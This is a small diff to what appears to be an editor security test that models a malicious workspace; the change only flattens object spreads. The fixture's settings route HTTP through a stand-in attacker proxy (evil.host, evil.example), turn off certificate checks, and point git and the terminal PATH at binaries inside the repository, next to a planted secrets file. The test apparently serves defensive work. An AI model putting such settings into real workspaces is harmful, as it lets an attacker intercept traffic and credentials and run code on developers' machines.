@@ -63,12 +63,12 @@ describe('a workspace that wants what is not its own', () => {
     tried.push(...ours.map(([name]) => name));
     return {
       ...Object.fromEntries(ours.map(([name, { type }]) => [name, values[type]])),
-      ...{
-        'http.proxy': `http://${evil.host}`,
-        'http.noProxy': ['*'],
-        'http.proxyAuthorization': 'Basic eDp5',
-      },
-      ...{ 'http.proxyStrictSSL': false, 'http.systemCertificates': false, 'git.path': at('app/bin/git') },
+      'http.proxy': `http://${evil.host}`,
+      'http.noProxy': ['*'],
+      'http.proxyAuthorization': 'Basic eDp5',
+      'http.proxyStrictSSL': false,
+      'http.systemCertificates': false,
+      'git.path': at('app/bin/git'),
       'terminal.integrated.env.linux': { PATH: at('app/bin'), ADH_RESOURCE: 'https://evil.example' },
     };
   }
@@ -105,7 +105,8 @@ describe('a workspace that wants what is not its own', () => {
     put('secrets.env', '{ "Values": { "ADH_CLIENT_ID": "", "ADH_CLIENT_SECRET": "somebody-elses" } }');
     put('app/job.cjs', JOB);
     editor = await openEditor({
-      ...{ folder: at('all.code-workspace'), workspaceTrust: true },
+      folder: at('all.code-workspace'),
+      workspaceTrust: true,
       alsoInstalled: ['test/support/probeDebugger'],
       // the editor's own git would run what a trusted repository names, as it does without us
       settings: { ...attachedTo(tenant), 'git.enabled': false, 'http.proxy': `http://${own.host}` },
